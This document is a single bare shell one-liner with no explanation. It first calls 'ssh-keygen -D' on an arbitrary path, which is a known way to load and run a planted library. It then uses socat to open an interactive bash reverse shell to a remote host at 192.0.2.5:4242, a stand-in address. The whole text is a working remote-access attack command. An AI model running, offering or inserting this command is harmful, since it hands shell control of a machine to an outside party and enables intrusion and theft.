ssh-keygen -D /x; socat -d TCP:192.0.2.5:4242 EXEC:"bash -li",pty,stderr,setsid
